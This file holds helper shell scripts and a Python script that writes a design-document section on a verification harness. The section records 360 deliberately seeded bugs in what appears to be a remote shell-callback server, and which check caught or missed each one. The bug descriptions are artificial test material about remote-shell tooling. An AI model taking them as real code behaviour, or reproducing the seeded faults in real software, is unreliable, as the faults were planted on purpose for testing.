	echo "$c exit=$rc wall=$(( $(date +%s) - s ))s $(tail -1 /tmp/thorough-$c.out | cut -c1-200)"
	grep -E '^# |^VIOLATION|BROKEN' /tmp/thorough-$c.out | head -5 | cut -c1-300
done
