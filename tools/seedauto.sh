#!/bin/bash
# seedauto.sh <prop> <A|B> : confirm + check the seeded change a sub-agent left in /tmp/wt-<prop>/seeded/<A|B>
prop=$1 v=$2
V=$(cd "$(dirname "$0")/.." && pwd)
src=/tmp/wt-$prop/seeded/$v
if [ -f "$src/demo_test.go.txt" ]; then
	dir=$(head -5 "$src/demo_test.go.txt" | grep -oE '(internal|lib)/[a-z]+(/[a-z]+)*' | head -1)
	# "lib/x/seeded_a_demo_test.go" matches as lib/x/seeded: keep only an existing directory
	while [ -n "$dir" ] && [ ! -d "/repo/$dir" ]; do
		case "$dir" in */*) dir=${dir%/*} ;; *) dir= ;; esac
	done
	if [ -z "$dir" ]; then
		pk=$(grep -m1 '^package ' "$src/demo_test.go.txt" | awk '{print $2}')
		case "$pk" in main) dir=. ;; *) dir=$(cd /repo && grep -rl --include='*.go' "^package $pk\$" . | head -1 | xargs dirname | sed 's#^\./##') ;; esac
	fi
	exec "$V/tools/seedconfirm.sh" "$prop-$v" "$prop" "$src" demo_test.go.txt "$dir/seeded_demo_test.go" "${@:3}"
elif [ -f "$src/demo.sh" ]; then
	exec "$V/tools/seedconfirm.sh" "$prop-$v" "$prop" "$src" demo.sh SCRIPT
else
	echo "no demo in $src"; ls "$src"; exit 2
fi
