#!/bin/bash
# seedrerunall.sh <glob of seeded ids> : re-run the quick check of each seed's property, sequentially
cd "$(dirname "$0")/.."
for d in seeded/$1; do id=$(basename $d); p=${id%%-*}; tools/seedrerun.sh $id $p 2>&1 | grep -v WARN | head -2 | cut -c1-220; done
