#!/bin/bash
# tryseed.sh <prop> <variant> [check-prop]: run one quick check of this tree against a seeded change still in /tmp/wt-<prop> (or in seeded/<prop>-<variant>)
p=$1 v=$2 cp=${3:-$1}
V=$(cd "$(dirname "$0")/.." && pwd)
wt=/tmp/wt-$p
patch=$wt/seeded/$v/patch.diff
[ -f "$patch" ] || patch=$V/seeded/$p-$v/patch.diff
(cd $wt && git checkout -q -- . && git clean -fdq -e seeded && git apply "$patch") || exit 2
(cd $V && VERIF_REPO=$wt VERIF_OUT_DIR=/tmp/out-try-$p ./run $cp quick 2>&1 | grep -v "^WARN" | grep -E "^VIOLATION|^#|quick:|BROKEN|KNOWN" | cut -c1-400 | head -${TRY_LINES:-8})
(cd $wt && git checkout -q -- . && git clean -fdq -e seeded)
rm -rf /tmp/out-try-$p
