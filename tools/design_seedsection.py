p = '/verif/DESIGN.md'
s = open(p).read()
i = s.index('### 12.5 Which check catches which seeded change')
table = open('/tmp/seedtable.md').read()
new = '''### 12.5 Which check catches which seeded change

360 changes were written by sub-agents that saw only the text of one property and their own scratch worktree: two per property in each of nine rounds
(A, B; C, D; E, F; G, H; I, J; K, L; M, N; O, P; Q, R). From the second round on the agents were additionally told one line about each earlier change for their property so as not to repeat it; in the fourth round the two
changes had prescribed styles: G a concurrency or resource-lifetime slip (a lock moved, a goroutine added, pooling or caching, a timer, a finalizer, a deferred clean-up in the wrong place),
H a slip in glue or wiring (the main program's flags and the way it builds its components, a constructor's defaults, a small helper, a library option, an error translated on its way up).
In the fifth round: I a slip on an error path or at a boundary (something failing half-way, the first / last / empty / maximal element, two things ending at the same moment),
J a well-meant hardening, limit or normalisation that bites legitimate use (a timeout, a size cap, stricter validation, rate limiting, trimming, de-duplication).
In the sixth round: K a slip that rests on a Go language or standard-library pitfall (shadowing with `:=`, slice aliasing, `copy`'s contract, a typed nil in an interface, `defer` in a loop, `http.Error` without `return`, `TrimLeft`'s cutset, integer overflow of the exit status),
L a small feature addition (a flag, an option, an endpoint, an exported function) that is off by default.
In the seventh round: M a change whose misbehaviour depends on the *environment* the program runs in (TERM, NO_COLOR, the locale, the current directory, the number of processors, which interfaces carry addresses, whether the host has IPv6,
a system clock that is set, symbolic links, a directory that takes no files), N a behaviour-preserving-looking *refactor* that moves or reorders something (a check moved past an unlock or above another check, a block moved below the point where the terminal is raw, a loop replaced by `io.Copy`, an errgroup by a `WaitGroup`, helpers extracted that each take the lock themselves).
In the eighth round: O a *performance optimisation* a reviewer would welcome (a buffer reused, a copy avoided with `unsafe.String`, writes or notices coalesced, a value cached, a fast path, a loop made parallel, a read-write lock),
P a *simplification / clean-up / modernisation* (code that looks redundant deleted, two near-identical paths unified, a hand-written loop replaced by a newer library helper, error handling tidied).
In the ninth round: Q an *addition of observability or diagnostics* (more detail in a notice, counters behind a signal, a status function, timing, an error ring, a trace hook) whose slip is a side effect of looking,
R a change that makes the code *more testable or more portable* (an injectable clock / listener / file system, a function split so that a test can call the middle, a zero value made usable, a fallback for a missing terminal) whose slip is in the default wiring or the fallback.
The checks as they stood missed about a third of the changes of the early rounds at first sight (11 of 38 in round three) and about half of rounds four and five (22 of 42, 21 of 40): prescribing a *style* the checks had not met yet is what kept finding blind spots. Every miss led to the strengthening listed below; with the machinery as committed every one of the 360 is reported except two of the ninth round (C02-R: a fallback that lets the program run *without* a terminal, reading lines from standard input, and mangles long lines there; C12-R: a listening socket inherited through a new environment variable and not closed - both are behaviour that does not exist at the pinned commit and only misbehaves when it is used) and six of the sixth round's feature additions (C02-L `-takeover`, C03-L `-max-output-chunk`, C05-L an environment variable switching on per-SNI certificates,
C14-L `ConnectTimeout`, C16-L `-strip-comments`, C19-L `-line-buffer`): each breaks its property only when the new option is switched on, and a check built for the pinned interface has no way of knowing that an option exists, let alone what a legitimate use of it is.
The other fourteen feature additions of that round break something with the feature *unused* and are caught. Sixth round at first sight: 19 of 40 missed or answered with a broken check (exit 2) instead of a verdict.
Ninth round at first sight: 21 of 40 reported at once, 3 answered with a hang, 16 missed.
Eighth round at first sight: 27 of 40 reported at once, 2 answered with a hang or exit 2 instead of a verdict, 11 missed.
Seventh round at first sight: of the 20 refactors 18 were reported at once (one answered with exit 2, one missed), of the 20 environment-dependent changes 8 - the checks had, until then, run everything in the one environment they were started in.
Each change was confirmed here
(`tools/seedconfirm.sh`: builds, whole existing suite passes, the agent's demonstration fails with the change and passes without) and kept under
`seeded/<id>/` (`patch.diff`, demonstration, `NOTES.agent.md`, `confirm.log`, `check.out`, `meta.json`). The checks were run against each with
`VERIF_REPO=<scratch worktree with the patch>` (same build path as `/repo`, which stays clean). With the machinery as committed, the quick tier of the property
a change breaks reports it (see the table; an entry still marked MISSED there is discussed below it).

What each missed (or nearly missed) change led to:

| seeded | first result | strengthening |
|---|---|---|
| C02-A (line dropped when the context is already cancelled) | divergence (corner excluded) | `linecancel` simultaneous pair |
| C02-B (`ChanWriter` splits writes > 32 KiB) | missed | lines also entered through the real `opshell.ChanWriter`, sizes 2^k+-1 to 1 MiB; Ctrl+I seam on the real Shell |
| C03-B (`handleOutput` batches plain output behind notices) | missed | terminal seam with burst / backlog regimes |
| C04-A (`wg.Add` moved after the unlock) | missed | `GateAdmitted` + `proceed` |
| C09-A (`ServeFile` redirects `/index.html`) | missed | `index.html` segment; "whatever reached the file handler got the file" in single-file mode |
| C09-B (method patterns let the file server shadow `/c`, `/o/x`) | (strengthened first) | shell endpoints also requested with POST/PUT/DELETE/OPTIONS |
| C10-A (client address in the format) | missed | zoned link-local IPv6 clients (`fe80::...%eth0`) when the host has such an address |
| C11-B (log record built from a reused buffer) | missed | C11 profile with an unbuffered operator channel |
| C13-A (transport cached per URL) | missed | same URL for every call |
| C16-B (per-line right-trim) | missed | literals / here-docs with trailing blanks in the grammar |
| C17-A (valid symlinks dropped) | missed | strict stat reading (12.2) |
| C18-B (`bufio.Scanner` stops at a 64 KiB line) | missed | payloads with 4 KiB-1 MiB lines |
| C01-C (refused `/o` handler keeps draining the upload) | (strengthened first) | HTTP seam: a refused `/o` that keeps streaming must be let go of within 2 MiB |
| C01-D (`noMore` checked before the lock) | worker crashed (`WaitGroup is reused`) -> exit 2 | a worker that dies twice on the same task is a `program-crashed` violation with the panic text, not a broken check |
| C03-C (terminal error on its own channel, random `select`) | exit 2 ("does not reproduce on every replay") | a violation seen when found and in >= 2 of 5 replays is reported as *intermittent*; instability with confirmed violations no longer aborts |
| C03-D (`\\r\\n` -> `\\n` in `writePlain`) | (strengthened first) | terminal-seam item with CR LF and a lone CR |
| C05-C (`Leaf` = last certificate of a cached chain) | (strengthened first) | hand-made cache whose cert section holds a chain |
| C05-D (expired cached certificate replaced after the pin was computed) | (strengthened first) | cache generated with a 1 ns lifespan |
| C06-D (lock dropped around the "New connection" record) | would be missed | **log gate**: a stream can be parked at its "New connection" log record inside the admission section while other admissions are started |
| C07-C (IPv6 Host loses its brackets) | (strengthened first) | IPv6-literal Host values |
| C07-D (per-server non-thread-safe ID generator) | (strengthened first) | 16 x 1 500 concurrent `/c` requests, IDs pairwise distinct (a sampling complement, says so) |
| C08-C (parents created 0755) / C08-D (expired certificate regenerated) | (strengthened first) | 16 damage classes instead of 6; restarts of caches with 1 ns / 1 s / 1 h lifespans |
| C09-C (prefix test without separator) / C09-D (non-blocking notice send) | (strengthened first) | siblings named `<tree>-old`, `<tree>.bak`, `<tree>x` reached through every `..` spelling that survives the mux; 40 file requests against an operator queue of 8 must all be reported |
| C10-D (`handleOutput` re-formats notices) | (strengthened first) | terminal seam for `%`-bearing notices through the real Shell |
| C11-D (`wg.Done` before the disconnect record) | missed | the capturing handler yields before storing a record and stamps a global sequence; a record stamped after `Broker.Do` returned is a violation; shutdown profile in the quick tier |
| C12-C (closed-listener error excused only after a flag is stored) | caught by the real binary runs | also an in-process scenario with a stalled operator channel at the moment of "ready" |
| C12-D (event listener registered after HTTP is served) | see below | in-process scenario with a broker busy delivering an earlier event |
| C13-D (TLS session resumption skips the pin) | exit 2 (schedule prefix out of range) | divergence while violations are on the table cuts the schedule exploration short instead of aborting |
| C14-C (output pipe closed only after `cmd.Wait`) / C14-D (signal death reported as success) | would hang / missed | drain with a 30 s watchdog (`output-never-ends`); children that die by SIGKILL / SIGTERM |
| C15-D (`DecodeError.Line` not counting blank lines) | missed | the error must point at the *first* invalid line (and character), computed by a reference validator |
| C16-D (script cut at a look-alike `__END__`) | (strengthened first) | `__END__` / `__DATA__` lines inside a here-doc and a string |
| C17-D (default filter table shared between converters) | exit 2 (`concurrent map writes`) | converter independence checked first, sequentially; the parallel enumeration is skipped if it fails |
| C19-C (timer callback no longer re-checks the calm) | (strengthened first) | lock-interleaving scenario "muted, timer fires, chunk arrives": a suppressed chunk and an un-mute at the same instant is a violation |
| C19-D (Ctrl+J preview written as plain output) | (strengthened first) | Ctrl+J as a seventh event of the alphabet |
| C20-C (`CreateTemp` error used before checked) | (strengthened first) | fault "cache directory exists but takes no files" (`/proc/sys/kernel/...`) |
| C01-F (`new(struct{})` as the per-request marker: every `/io` request carries the same one) | missed by C01 (C06 reports it) | two `/io` requests in C01's mixed profile |
| C03-E (a keep-alive newline written to the `/o` response every 15 s: net/http starts discarding the unread request body) | missed | **quiet-spell scenarios**: a second build with every `time` import of `internal/hsrv` and `internal/iobroker` redirected to the virtual clock; after 1 s / 20 s / 2 min / 20 min of quiet (every due timer fired in order) output and input must still flow exactly (`quietspell.go`) |
| C03-F (`handleOutput` drops a line equal to the previous one within 1 s, shell output included) | missed | a chunk that repeats byte for byte in the terminal seam's alphabet |
| C04-E (notices to the operator sent non-blocking) | missed | cumulative notice oracle for the stalled-terminal profile (unbuffered operator channel): once a Connect call has returned, its closure / ready / gone notices must have been handed over |
| C04-F (input proxy spins on a closed operator channel) | `program-crashed/quiesce: world does not settle` | (kept: a goroutine that never blocks again is reported with the stack dump) |
| C05-E (script rendered into a buffer shared between requests) | missed | 16 clients requesting scripts at once, each with a callback address of its own length; both pins and the address of every script are checked (C05 and C07; a sampling complement) |
| C07-E (a template file missing at start-up is replaced by the default for good) | (strengthened first) | template file states at start-up (good / missing / unparsable) in the template histories |
| C09-F (single-file mode serves from one cached descriptor) | (strengthened first) | a 3 MiB single file fetched by 8 clients at once, three rounds, then replaced (rename) and fetched again |
| C10-F (net/http's "Server error" line used as a format) | missed | plaintext and a broken handshake sent to the TLS port from a zoned link-local client |
| C11-E (an already-cancelled request context returns silently) | caught (`refusal-record/...`) | - |
| C13-E (key hashes cached by issuer + serial number) | missed | server I: a copy of A's certificate (subject, issuer, serial, validity) around another key |
| C15-F (fixed 45-byte line buffer in the decoder) | missed | every length character 0x20..0xff with a data part of exactly the matching size, three contents, alone and after a full line |
| C18-E (TABDOC lines collected per source instead of from the payload) | missed | **`Converter.From` seam**: every sequence of <= 3 sources (with / without filter, with / without final newline, directory), listing appended by `From` itself, rows compared with the TABDOC lines of the payload it was appended to |
| C19-E (undecorated status lines take the shell-output path) | missed | status lines in four dresses (coloured / plain, with / without timestamp, with / without trailing newline), chosen by position |
| C20-E (only the tty's descriptor number is kept: a finalizer closes the file, the terminal stays raw) | missed | every exit and every single start-up fault also with `GOGC=1` (the collector and finalizers running all the time) |
| C01-H (IDs un-escaped a second time by a helper in the handlers) | missed | ID `%256B` (decodes to the three characters `%6B`) in the HTTP seam |
| C02-H (`go func() { s.ich <- l }()` in `Shell.Do`: a paste is reordered) | missed | lines pasted into the real Shell's terminal in one write (1..100 lines): once each, in order |
| C03-G (forwarding loop goes on after a cancellation dropped a chunk) | missed | needs an operator's side that is *waiting* when the cancellation lands between two steps of one goroutine: `await` event (the operator found waiting) in the stalled profiles, and a free-running complement (`c03stress.go`) that found it |
| C03-H (handlers wrap the body; bytes returned together with a non-EOF error are discarded) | missed | **handler seam** (`c03handler.go`): requests with scripted bodies through the real mux and handlers into the real broker, every sequence of <= 3 read results incl. data + reset / unexpected EOF / closed pipe; and over TLS a connection cut in the middle of a chunk, which turned up D11 |
| C04-H (`-one-shell` and `-ipv6-one-liners` swapped in the call of `hsrv.New`) / C06-H (one broker per `-listen-address`) | missed | **wiring seams** (`realbin2.go`): the real binary under every boolean flag, alone and together: three shells in a row (C04); two `-listen-address` flags with two `/io` clients on every address that accepts (C06) |
| C08-G (`sstls.Listen` removes the cache when listening fails) / C08-H (`hsrv.New` retries without a cache when loading fails) | missed | histories of starts through `sstls.Listen` (fine / address in use / bad address) on one cache path; the HTTPS server started the program's way on damaged caches (`c08seams.go`) |
| C09-G (single-file mode forgets to close the file) / C09-H (`MaxHeaderBytes: 4 << 10`) | missed | a worker process with ~40 spare descriptors and the collector off: 300 single-file requests; 13 KB targets (a 431 below net/http's own limit is a violation) |
| C10-G (error-log line kept past `Write`'s return) / C10-H (Host header in a format position on the punycode error path) | missed | 48 clients failing the TLS handshake at the same moment, each named exactly once; Host values `xn--<text>.example.com` |
| C11-G (output records written by a goroutine that stops at cancellation) / C11-H (`-log` file behind a `bufio.Writer`) | missed | free-running complement with a slow log sink (`c11stress.go`); a second real-binary session ended by SIGKILL after the handlers have returned |
| C12-E (graceful shutdown bounded to 5 s: the live shell is cut off) / C12-F (`/io` handler closes the listener itself) | missed | two sessions left alone for 8 s (thorough 35 s) after the listener closed; pre-attempt "refused /io client beside a held input" |
| C13-H (pin moved to `DialTLSContext`, which proxied connections skip) | missed | the pinned calls again with a default transport that uses a CONNECT proxy and trusts every server's certificate (`c13proxy.go`) |
| C14-H (`defer res.Body.Close()` in `simpleshell.Go`) | missed | end-to-end seam: `simpleshell.Go` + `CmdShell` against a slow HTTPS server (HTTP/2 and HTTP/1.1) that keeps sending input (`c14go.go`) |
| C15-H (`bufio.Scanner`'s 64 KiB token limit, error unchecked) | missed | an accepted input must be valid by the reference validator; lines of 4 KiB..1 MiB in the middle of valid text |
| C16-G (converted files cached by path and "newer" mtime) / C16-H (default filter table shared, `SetFilter` lazily creating it) | missed | **converter histories** (`c16conv.go`): one long-lived Converter, the script replaced by an older / same-age / newer file, other Converters' tables changed, real directory and MapFS |
| C18-G (listing cached by source name, size, mtime) / C18-H (`DocPrefix` field empty in a zero Converter) | missed | From seam also with a zero-value Converter and with one kept Converter that has just seen the same sources before a file is rewritten in place |
| C19-G (one long-lived key goroutine fed through an unbuffered channel) | missed | lock-interleaving scenarios with two Ctrl+O keys typed together (`KKP`, `PKK`, `MKKP`; 1 536 schedules instead of 136) |
| C19-H (timer created lazily) | exit 2 ("shim not linked") | the linkage check no longer assumes a timer armed by the constructor |
| C20-G (`close(s.ich)` while an insertion may still send) | missed | exits "Tab then Ctrl+D" and "queue full, Tab, Ctrl+D" |
| C01-I (a side that ends with an error also clears the other side's slot) | missed | write failures in C01's uni profile (72 k states) |
| C03-I (`writePlain` retries a whole chunk after `EAGAIN`) | missed | a terminal that takes only part of a write: a pipe the runtime's poller does not know, put into non-blocking mode behind the program's back, 6 KiB chunks (more than `PIPE_BUF`), read out later: what it holds must be a prefix of what was sent |
| C04-J (`Broker.Do` gives attached streams a 5 s grace) | missed | virtual clock: a shell whose streams are not the broker's to cancel, a stalled terminal, shutdown, ten minutes pass: `Do` must not have returned |
| C05-I (callback ports >= 32768 overwritten by the listen port) / C05-J (`MinVersion: TLS 1.3`) | missed | callback addresses `high.example:50443`, `[2001:db8::2]:65535`, and every user-supplied `host:port` must be among the printed addresses; `curl --tls-max 1.2` with the advertised pin |
| C06-I (chunks an ended output stream had already read are shown later) | missed | HTTP seam: a unidirectional shell loses its input connection, a `/io` client becomes the shell, the old output connection sends a chunk |
| C07-J (template read through a 64 KiB `LimitReader`) | missed | a 100 kB template (a library of functions before the callback lines) among the template-file operations |
| C08-I (a failing cache write is swallowed) / C08-J (atomic write renamed to the lexically cleaned path) | missed | the `os` shim can make `WriteFile` fail with `ENOSPC` after k bytes; cache paths with `..` after a symbolic link, doubled separators, dot segments |
| C09-I (`/c` with an unparsable query falls through to the file handler) | missed | `/c?x=%zz`, `/c?%`, `/c?a=1;b=2` among the shell-endpoint targets |
| C10-I (c2 in a format position when the script cannot be delivered) | missed | a template of several MiB and clients that hang up without reading |
| C11-J (a line's write gets 5 s, then the stream is given up while the write goes on) | missed | virtual clock: an input stream that accepts its line after a minute; delivered lines = input records |
| C12-J (listener closed 500 ms after the ready notice, never if the shell is gone by then) | missed | sessions whose shell ends the moment it is ready |
| C13-I (only `ErrNoMatchingCertificate` counts as refusal) / C13-J (`sha256/` prefix trimmed greedily) | missed | server U presenting a second certificate whose key Go cannot marshal (Ed25519 relabelled as Ed448); server S whose pin begins with `/`, in both spellings |
| C14-I (stderr forwarded line by line, unterminated tail dropped) / C14-J (CR LF normalised in the input) | missed | output sizes that are not a multiple of the stamp's 8-byte records; CR LF pairs in the input stamp |
| C16-I (`FromPerl` drops what a reader returns together with `io.EOF`) | missed | reader shapes: one byte at a time, halves, data with EOF, everything with EOF, a reader that times out |
| C17-J (files read through a 1 MiB `LimitReader`) | missed | eligible files of 1-3 MiB, in a directory and as single-file sources |
| C19-J (muting capped at 20 s) | missed | two fixed long floods (23 s at 1.9 s gaps; 3 s at 0.1 s gaps and on) run through the same oracle as the enumeration |
| C20-J (terminal restored only if standard input is a terminal) | missed | controlling terminal present, standard input `/dev/null` |
| C02-K (`http.Error` without `return` for a non-GET `/i/{id}`) | missed | the input stream also requested with POST and PUT in C02's HTTP seam |
| C03-K (`err :=` shadowed in `handleOutput`: a failed terminal write no longer stops it) | missed | the choked terminal is sent three more chunks while it is being read out: no hole |
| C04-K (`err :=` shadowed in `proxyOut`'s reader: it spins after the stream ended) | exit 2 ("world does not settle") | a world that never comes to rest ends the worker process; twice on one history = `program-crashed/...` with the stacks |
| C04-L (a second event listener that is only drained when a new flag is set) | exit 2 (tooling: the patch adds a file) / missed | **1 100 shells in series** through the real handlers (the callback help stops being re-printed at shell 513) |
| C05-K (400 answers to `/c` carry a script rendered from zero parameters) | missed | refused `/c` requests: no curl command pinning anything but the listener's key |
| C06-L (`/io/{id}` endpoint, call check keyed on the token's presence) | missed | `/io/k` as a spelling of `/io` in the gated HTTP seam (`{io/k, o}`, `{i, io/k}`) |
| C08-K (`os.IsNotExist` on a wrapped error: nested cache directories are no longer created) | exit 2 (the probe run failed) | a failing first start is a violation |
| C08-L (SANs from the callback addresses; the cache is regenerated when they "differ") | caught by C05 only | three restarts of the server on one intact cache with IPv4 / IPv6 listen addresses and a callback name added on the third |
| C09-L (`?t=` token compared even when no token is set) | missed | file requests with queries `t=1`, `token=x`, `id=1`, `key=v`, ... |
| C11-K (`Fprintf(w, line)`) / C11-L (`O_APPEND` lost when a truncate flag was added) | missed | formatter-looking lines among the log payloads; two runs of the real binary on one log file |
| C12-L (a second event listener in `main` that is only drained when a new flag is set) | missed | 1 100 half-attached attempts before the shell |
| C13-K (`copy` into a 32-byte array accepts longer fingerprints) | missed | fingerprints that are the pinned hash followed by 1 or 32 more bytes |
| C15-K (`copy` into a zero-length slice loses the destination's contents) | missed | encode / decode into a destination without spare capacity |
| C16-K (`SplitN(..., 128)` on the header) | missed | leading comment blocks of 100, 127, 128, 129, 203, 600 lines |
| C17-K (`defer f.Close()` moved into the loop) / C17-L (sources taken as glob patterns) | missed | 400 eligible files converted in a worker with 64 spare descriptors; source names with glob characters next to siblings a pattern would match |
| C18-K (compaction and quote-escaping merged into one in-place pass) / C18-L (`strings.Fields` + join) | missed | duplicates that contain a quote in the row-set menu; runs of blanks, NBSP and CR inside TABDOC text |
| C19-K (mute redesigned around `time.After` in the output loop) | exit 2 (overlay helper read removed fields; scenario needs a timer goroutine) | private state looked up by name; lock scenarios that cannot be set up on a Shell are skipped and counted |
| C20-L (`opshell.New` grew a parameter; clean-up waits for `Do`) | exit 2 (harness did not build) | the repository's constructors are called through reflection (`harness/rcall`): new parameters get zero values |
| C01-M (a tear-down that has lasted 30 s by the *wall* clock is given up on) | missed | virtual-clock scenario at broker level: input ended, output stream held before its release by a log sink that blocks; attempts at once, 31 s and 20 min later, after the system clock was set forward and back: refused throughout |
| C01-N (`proxyOut`'s loop replaced by `io.Copy` in a goroutine that outlives it) | exit 2 ("harness nondeterminism": the program now flips a coin) | profile `c01-late-chunk`: a Read that is pending when the Connect call returns stays pending (as net/http's does) and is handed one more chunk - nothing of it may be shown; a profile that cannot be explored no longer hides another profile's violation |
| C02-M (bracketed paste requested unless TERM is dumb; lines made of pasted text dropped) / C10-M (NO_COLOR / TERM=dumb path formats twice) / C20-M (`Escape = nil` on dumb terminals) | missed | the terminal seam and the real binary also with TERM xterm-256color / screen / vt100 / dumb / unset and NO_COLOR; the fake terminal brackets pastes when asked to |
| C03-M (an incomplete UTF-8 sequence at the end of a chunk is held back when the locale says UTF-8, and never flushed) / C14-M (`ToValidUTF8` per chunk in a UTF-8 locale) / C18-M (invalid UTF-8 "scrubbed" after quoting, in a UTF-8 locale) | missed | workers started with LANG / LC_ALL naming UTF-8: chunks that end inside a character (C03), binary output and two-byte characters across every read boundary (C14), lead bytes before quotes and hidden commands (C18) |
| C04-M (callback help recomputed from the live interface list when a shell dies; failure ends the server) | missed | the real binary listening on every address in a private network namespace (`unshare -n`) whose interface loses its address while a shell is attached, gets it back, is joined by another, is removed: six shells in series |
| C06-N (per-call marker becomes a counter read back after the unlock) | missed in the quick tier (the gated exploration starts calls one by one) | the free-running `-race` pass, so far thorough only, is part of C06's quick tier |
| C12-M (a second IPv6 socket for wildcard addresses that `Close` forgets) | missed | after the ready notice the process holds no listening TCP socket at all (`/proc/<pid>/fd` against `/proc/<pid>/net/tcp*`); `-listen-address` `0.0.0.0:0`, `:0`, `[::]:0`, `[::1]:0` |
| C13-M (a fingerprint that names a file in the current directory is read from it) | missed | the check runs in a directory holding a file named like every fingerprint string in use, each containing another key's pin |
| C15-M (block-wise parallel encoder whose semaphore has capacity GOMAXPROCS-1) | missed | the codec in a child process with `GOMAXPROCS=1` (and 2), sizes around every block boundary up to 1 MiB |
| C16-M (sources run through `EvalSymlinks`: the function is named after the link's target) | missed | scripts reached through links whose targets are called `tool_v2.pl`, `tool`, `tool.sh`, as single file, in a directory, through a linked directory; C17's link targets renamed likewise |
| C17-M (converted bytes cached by name, size and mtime) / C17-N (pattern list and per-file filter looked up at different times) | caught by the row-set and (already present) kept-converter clauses; added all the same: kept-converter edit histories on real files (same length, same mtime, older mtime, contents exchanged), and `SetFilter` from another goroutine while `From` is inside the filter of file k, for every k and 8 kinds of change: the payload is that of the table before or after |
| C19-M (`lastPlainWrite` stamped with a truncated time: wall clock instead of monotonic) | missed | `vtime.Now` carries a monotonic reading and a wall clock that `StepWall` can set; the system clock is set back / forward ten minutes at every point of every 4-event string beginning with Ctrl+O (512 strings) |
| C01-Q (`Status()` takes the broker's lock and is called from a refusal that already holds it) / C01-R (`ConnectInOut` waits for "input attached" and has no edge for "input refused") | hang (the virtual-clock tear-down scenario waited for an attempt that never came back) | that scenario gives up on an attempt after the watchdog and stops; **every check now ends**: a global deadline (40 min quick, 6 h thorough) reports what has been found by then |
| C02-Q (the Ctrl+I notice previews the first line with `append(first[:57], "..."...)` on a sub-slice of the insert) | missed | inserts with lines of 61 .. 70 000 bytes and without any newline |
| C03-Q (mute statistics: the timer callback returns before un-muting when nothing was hidden) / C03-R (the key callback loses its `go`: lock-order inversion with Ctrl+O) | missed by C03 (the mute is C19's business: C03 excludes muted output) | reported by C19 (`ctrl-o-not-announced`, `flag-...`, `lock-interleaving/deadlock/...`); recorded with C19's output |
| C04-Q (a 3 s "shell has not taken its input" timer that a failed write leaves armed) | missed | virtual-clock scenario: a shell that ended in each of three ways and was announced gone; twenty minutes later nothing more is said about it and no timer is armed |
| C05-Q (TLS handshakes timed inside `Accept`) | missed | six connections that never say anything are opened before the keys are checked |
| C06-Q (a printable per-call ID of 16 bits replaces the per-call pointer) | missed (no search over a handful of requests finds a 1 : 65 536 collision) | free-running complement `c06spray`: one request's input half attached, its output half held back at the admission point by the verif hook, then 400 000 (thorough 2 000 000) foreign `/io` requests: none of their halves is admitted |
| C07-R (the Host header punycoded eagerly, also when a c2 parameter or header says where to call back) | missed | Hosts that net/http lets through and IDNA conversion refuses (`xn--0.example`), next to an explicit c2 |
| C09-Q (tally lock held while the response is written) / C09-R (every endpoint also registered with a trailing slash, i.e. as a subtree) | missed | a second client's request while another's download is stalled; a tree with directories named `c`, `i`, `o` (files below them are files; with no files served, 404) |
| C10-Q (the notice re-read from a shared "latest notice" field after the unlock) / C10-R (`http.AllowQuerySemicolons` in front of every handler) | missed | 4 000 file requests from 16 clients at the same time, each with a target of its own (escapes, `;` in the query): one verbatim notice each |
| C12-Q (the one-shell sentinel error annotated with `%s`: no longer recognised once net/http has logged any error) | caught only through cases that happened to produce such a log line | clients that do not speak TLS as pre-attempts |
| C13-Q (statistics array of 8 slots indexed by the chain length, `recover` swallowing the panic *and* the verdict) / C13-R (a round tripper that is not an `*http.Transport` is returned unpinned) | missed | a server that presents twelve certificates; a wrapping round tripper on `http.DefaultClient` whose transport trusts every server |
| C15-Q (error ring: receive-then-blocking-send on a full channel) | hang | calls of the decoder that are under way are tracked; one that has not returned after five minutes is reported and ends the check |
| C16-R / C17-R (zero `Converter` made usable: `SetFilter` before the first `From` loses the defaults; an emptied table regains them) | C16 missed | the long-lived converter is given a filter for an unrelated pattern within the histories; C17: a table with every default pattern switched off, and default patterns left as the constructor set them up (they used to be re-set explicitly) |
| C01-O (`Broker.mu` becomes a read-write lock, admission checks under the read lock) | missed (the gated exploration serialises whole admission sections) | free-running complement `c01stress`: seven kinds of mutually exclusive pairs of attempts released together against an idle broker, 7 000 rounds (thorough 140 000); whatever is attached in the end belongs to one of them |
| C01-P (the silent return during shutdown routed through the common `refuse` helper, which tells the operator) | missed | profile `c01-shutdown-stalled-terminal` (operator channel of one slot that is not read, attempts arriving after shutdown, also after `Broker.Do` has returned): such an attempt is ended at once |
| C02-O (`ChanWriter` sends `unsafe.String` of its argument; the converter reuses its buffer) | missed | Ctrl+I twice with nobody attached, the insert source reusing its buffer in between: both queued lines are what was inserted when the key was pressed |
| C03-O (reads coalesced in the reader goroutine, a pending tail not flushed at the end) | hang (the free-running complement waited for a chunk count that never came) | cancellation point counted in bytes; every wait of the complement bounded by the watchdog |
| C04-P (`Shutdown` with a grace period then `Close`, `BaseContext` dropped: nothing ends the shell on the `-one-shell` path) | missed by C04 | the operator leaves (Ctrl+D, Ctrl+C) with a shell attached whose client keeps its streams open, with and without `-one-shell`: the program exits and ends the streams |
| C05-O (fingerprint fast path with the P-256 header for every ECDSA key) / C05-P (`sortAddresses` result dropped: empty entries in the address list) | missed | caches holding P-384, P-521, Ed25519 and RSA keys; duplicate and loopback callback addresses, and every printed command names a host |
| C06-P (the random bidirectional key becomes the constant `"/io"`) | missed | profile with unidirectional IDs `/io` and `io` (a path segment is percent-decoded) next to a bidirectional client |
| C07-O (`ParseForm` skipped unless there is a query or a Content-Length) / C07-P (three "add the port" snippets unified, losing "unless that is 443") | missed | c2 in a chunked form body; a listener on port 443 (skipped, and said so, where the port cannot be bound) |
| C08-P (positional access to the cache's sections) | exit 2 (the program's panic took the check down) | a panic of the program inside `GetCertificate`, `sstls.Listen` or `hsrv.New` is recovered and reported as `program-crashed/...` |
| C09-O (notice text built in a pooled buffer and handed over with `unsafe.String`) | missed (notices were read after every response) | 240 requests of very different lengths from 4 clients while nothing is taken off the operator channel: every request has a notice of its own carrying its own path |
| C10-P (explicit argument indexes in the notice for a refused `/io` side count from the prepended address) | missed | a `/io` client refused next to an attached `/i/<text>` or `/o/<text>`: the notice that names the expected ID carries it verbatim |
| C11-O (queued input lines written as a batch, records after the flush) | missed | writer fault "the next write succeeds, the one after it fails" (`Profile.WFailLater`), profile `c11-write-fails-later` with lines typed ahead |
| C12-O (`Shutdown`'s polling replaced by a one-off sweep plus a wait group) / C12-P (`new(struct{})` as the per-call marker) | missed | a TCP connection that never says anything, opened before the shell and kept to the end; three `/io` clients calling back at the same moment, 150 trials: the operator's line and the displayed output belong to one client |
